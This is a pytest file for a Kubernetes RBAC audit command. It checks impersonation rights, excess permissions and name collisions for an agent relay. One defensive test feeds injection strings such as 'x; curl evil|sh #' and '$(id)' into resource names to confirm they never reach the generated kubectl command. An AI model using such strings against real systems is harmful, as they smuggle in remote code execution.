"""C08: a cluster's RBAC compared with the enrolled agents and teams."""

from __future__ import annotations

import attrs
import pytest

from proxy.cli.admin.cluster.rbac_check import Enrolled, Finding, Level, Object, examine
from proxy.kubernetes.cluster_role import CLUSTER_ROLE, cluster_role

ENROLLED = Enrolled(
    "prod",
    "acme",
    frozenset({"agent:robot", "agent:abe"}),
    frozenset({"acme/sre"}),
    frozenset({"agent:robot", "agent:abe", "agent:elsewhere", "acme/sre", "acme/web"}),
)


def applied(*, constrained: bool = False, wildcard: bool = False) -> tuple[Object, Object]:
    role, binding = cluster_role(
        ["robot", "abe"], ["acme/sre"], constrained=constrained, wildcard=wildcard, namespace="tools"
    )
    return role, binding


def bind(kind: str, name: str, *, role: str = "admin", namespace: str = "", **subject: str) -> Object:
    return {
        "kind": "RoleBinding" if namespace else "ClusterRoleBinding",
        "metadata": {"name": f"of-{role}", **({"namespace": namespace} if namespace else {})},
        "roleRef": {"kind": "ClusterRole", "name": role},
        "subjects": [{"kind": kind, "name": name, **subject}],
    }


def todo(findings: list[Finding]) -> list[str]:
    return [finding.message for finding in findings if finding.level is not Level.INFO]


@pytest.mark.parametrize("constrained", [False, True])
def test_what_is_printed_fits_what_is_enrolled(constrained: bool) -> None:
    role, binding = applied(constrained=constrained)
    findings = examine(ENROLLED, [binding], role)
    assert todo(findings) == []
    assert [finding.message for finding in findings] == [
        "the relay may impersonate all that are enrolled: 2 users and 1 group",
        "the relay has these rights where it runs as service account tools/hawse-relay",
    ]


@pytest.mark.parametrize("constrained", [False, True])
@pytest.mark.parametrize(
    ("enrolled", "message"),
    [
        (
            {"users": frozenset({"agent:robot", "agent:abe", "agent:new"})},
            "may not impersonate user agent:new",
        ),
        ({"groups": frozenset({"acme/sre", "acme/web"})}, "may not impersonate group acme/web"),
        ({"users": frozenset({"agent:robot"})}, "names that are not enrolled for this cluster: agent:abe"),
    ],
)
def test_who_is_missing_and_who_is_left_over_is_named(
    constrained: bool, enrolled: dict[str, frozenset[str]], message: str
) -> None:
    role, binding = applied(constrained=constrained)
    (finding,) = [f for f in examine(attrs.evolve(ENROLLED, **enrolled), [binding], role) if f.fix]
    assert message in finding.message
    options = "--constrained --namespace tools" if constrained else "--namespace tools"
    assert finding.fix == f"hawse admin cluster rbac prod {options} | kubectl apply -f -"
    assert finding.level is (Level.ERROR if "may not" in message else Level.WARNING)


def test_no_role_and_a_role_that_is_not_bound_are_errors() -> None:
    role, binding = applied()
    (finding,) = examine(ENROLLED, [], None)
    assert (finding.level, "not impersonate any agent" in finding.message) == (Level.ERROR, True)
    assert "bound to no service account" in todo(examine(ENROLLED, [], role))[0]
    # A RoleBinding has no effect here, since users are cluster-scoped.
    in_namespace = {**binding, "kind": "RoleBinding"}
    assert "bound to no service account" in todo(examine(ENROLLED, [in_namespace], role))[0]


def test_a_constrained_role_that_says_only_who_is_of_no_use() -> None:
    role, binding = applied(constrained=True)
    assert isinstance(role["rules"], list)
    (message,) = todo(examine(ENROLLED, [binding], {**role, "rules": role["rules"][:4]}))
    assert "no verb impersonate-on" in message


def test_the_verbs_that_a_constrained_role_withholds_are_told() -> None:
    role, binding = applied(constrained=True)
    assert isinstance(role["rules"], list)
    *who, on_resources, on_urls = role["rules"]
    less = [verb for verb in on_resources["verbs"] if not verb.endswith((":create", ":delete"))]
    findings = examine(
        ENROLLED, [binding], {**role, "rules": [*who, {**on_resources, "verbs": less}, on_urls]}
    )
    assert todo(findings) == []
    [told] = [finding.message for finding in findings if "lacks" in finding.message]
    assert "the verbs create, delete here:" in told


def test_the_command_is_for_the_account_that_the_relay_has() -> None:
    def fix(*bindings: Object) -> str:
        return examine(ENROLLED, bindings, None)[0].fix

    _role, binding = cluster_role([], [], namespace="tools", service_account="other")
    also = {**binding, "metadata": {"name": "another"}, "subjects": [{"kind": "ServiceAccount", "name": "x"}]}
    assert fix(also, binding) == (
        "hawse admin cluster rbac prod --namespace tools --service-account other | kubectl apply -f -"
    )
    assert fix(cluster_role([], [])[1]) == fix() == "hawse admin cluster rbac prod | kubectl apply -f -"


@pytest.mark.parametrize("hostile", ["x; curl evil|sh #", "$(id)", "x\n", "-x", "a.b", ""])
@pytest.mark.parametrize("field", ["namespace", "name"])
def test_no_text_of_a_cluster_gets_into_the_command(field: str, hostile: str) -> None:
    role, binding = applied()
    subject = {"kind": "ServiceAccount", "namespace": "tools", "name": "other", field: hostile}
    enrolled = attrs.evolve(ENROLLED, users=frozenset({"agent:new"}))
    findings = examine(enrolled, [{**binding, "subjects": [subject]}], role)
    commands = {finding.fix for finding in findings if "hawse admin" in finding.fix}
    assert commands == {"hawse admin cluster rbac prod | kubectl apply -f -"}
    assert any("not one that a relay is set up with" in message for message in todo(findings))
    # The command uses a valid account, in any position of the list.
    both = [subject, {"kind": "ServiceAccount", "namespace": "tools", "name": "other"}]
    [missing, *_] = examine(enrolled, [{**binding, "subjects": both}], role)
    assert missing.fix == (
        "hawse admin cluster rbac prod --namespace tools --service-account other | kubectl apply -f -"
    )


def test_too_much_is_a_warning() -> None:
    role, binding = applied(wildcard=True)
    assert "system:masters too" in todo(examine(ENROLLED, [binding], role))[0]
    role, binding = applied()


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        ("ServiceAccount", "hawse-relay"),
        ("User", "system:serviceaccount:tools:hawse-relay"),
        ("Group", "system:serviceaccounts:tools"),
        ("Group", "system:serviceaccounts"),
    ],
)
def test_what_the_relays_account_may_besides_is_a_warning(kind: str, name: str) -> None:
    role, binding = applied()
    by = bind(kind, name, role="view", namespace="tools")
    (message,) = todo(examine(ENROLLED, [binding, by], role))
    assert message == (
        "the relay's service account tools/hawse-relay has more rights, by RoleBinding tools/of-view"
    )


def test_what_kubernetes_gives_to_every_account_and_what_others_have_is_none() -> None:
    role, binding = applied()
    bindings = [
        binding,
        bind("Group", "system:serviceaccounts", role="system:service-account-issuer-discovery"),
        bind("Group", "system:serviceaccounts:other"),
        bind("User", "system:serviceaccount:other:hawse-relay"),
    ]
    assert todo(examine(ENROLLED, bindings, role)) == []


@pytest.mark.parametrize("kind", ["User", "Group"])
def test_who_else_may_impersonate_as_the_relay_is_a_warning(kind: str) -> None:
    role, binding = applied()
    assert isinstance(binding["subjects"], list)
    more = {**binding, "subjects": [*binding["subjects"], {"kind": kind, "name": "ops"}]}
    (message,) = todo(examine(ENROLLED, [more], role))
    assert message == f"{kind} ops may impersonate the same users as the relay"


@pytest.mark.parametrize(
    ("resource", "verb", "told"),
    [
        ("secrets", "get", "grants more than needed: get"),
        ("serviceaccounts", "impersonate", "by resources that no agent needs: serviceaccounts"),
        ("uids", "impersonate", "by resources that no agent needs: uids"),
        ("userextras/scopes", "impersonate", "by resources that no agent needs: userextras/scopes"),
        ("serviceaccounts", "impersonate:serviceaccount", "more than needed: impersonate:serviceaccount"),
        ("*", "impersonate-on:serviceaccount:get", "than needed: impersonate-on:serviceaccount:get"),
    ],
)
def test_a_rule_that_no_agent_needs_is_a_warning(resource: str, verb: str, told: str) -> None:
    role, binding = applied()
    assert isinstance(role["rules"], list)
    more = {"apiGroups": ["*"], "resources": [resource], "verbs": [verb]}
    (message,) = todo(examine(ENROLLED, [binding], {**role, "rules": [*role["rules"], more]}))
    assert message.endswith(told)


def test_names_that_nobody_enrolled_has_are_collisions() -> None:
    role, binding = applied()
    bindings = [
        binding,
        bind("User", "agent:robot", role="view", namespace="app"),
        bind("Group", "acme/sre", role="edit"),
        bind("User", "agent:ghost", role="cluster-admin"),
        bind("Group", "acme/old", role="edit", namespace="app"),
        # Not in Hawse's form.
        bind("Group", "other/sre"),
        bind("User", "ada@example.com"),
        bind("ServiceAccount", "agent:x", role="view", namespace="app"),
    ]
    findings = examine(ENROLLED, bindings, role)
    assert todo(findings) == [
        "acme/old has rights and is not enrolled at this hub: RoleBinding app/of-edit (ClusterRole edit)",
        "agent:ghost has rights and is not enrolled at this hub: "
        "ClusterRoleBinding of-cluster-admin (ClusterRole cluster-admin)",
    ]
    told = [finding.message for finding in findings if finding.level is Level.INFO]
    assert "agent:robot has rights: RoleBinding app/of-view (ClusterRole view)" in told


def test_before_a_relay_is_there_every_such_name_is_a_collision() -> None:
    # Without a relay, the name can only come from another identity provider.
    findings = examine(ENROLLED, [bind("Group", "acme/sre", role="edit")], None)
    assert "acme/sre has rights already, before a relay was set up here" in todo(findings)[1]


@pytest.mark.parametrize("odd", [{}, {"subjects": None}, {"subjects": "x", "roleRef": 1, "metadata": []}])
def test_odd_objects_are_passed_over(odd: Object) -> None:
    role, binding = applied()
    assert todo(examine(ENROLLED, [binding, odd, {"kind": "ClusterRoleBinding", **odd}], role)) == []
    assert CLUSTER_ROLE in str(binding)
